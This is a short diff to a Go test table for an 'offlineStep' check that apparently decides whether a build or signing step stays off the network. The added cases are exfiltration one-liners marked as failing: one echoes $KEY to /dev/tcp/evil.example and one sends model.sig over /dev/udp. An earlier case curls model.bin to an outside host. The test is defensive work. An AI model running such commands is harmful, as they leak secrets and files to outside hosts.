@@ -21,6 +21,8 @@ func TestOfflineStep(t *testing.T) {
 		{Step{Run: "sha256sum -c x && curl https://x.example/up -d @model.bin"}, false},
 		{Step{Run: "echo $(curl https://x.example)"}, false},
 		{Step{Run: "mlgate sign m --format keyless"}, false},
+		{Step{Run: "echo $KEY > /dev/tcp/evil.example/80"}, false},
+		{Step{Run: "cat model.sig >/dev/udp/10.0.0.1/53"}, false},
 		{Step{Run: "mlgate run --network none -- python x.py", Shell: "pwsh"}, false},
 	} {
 		if got := offlineStep(&c.step); got != c.want {
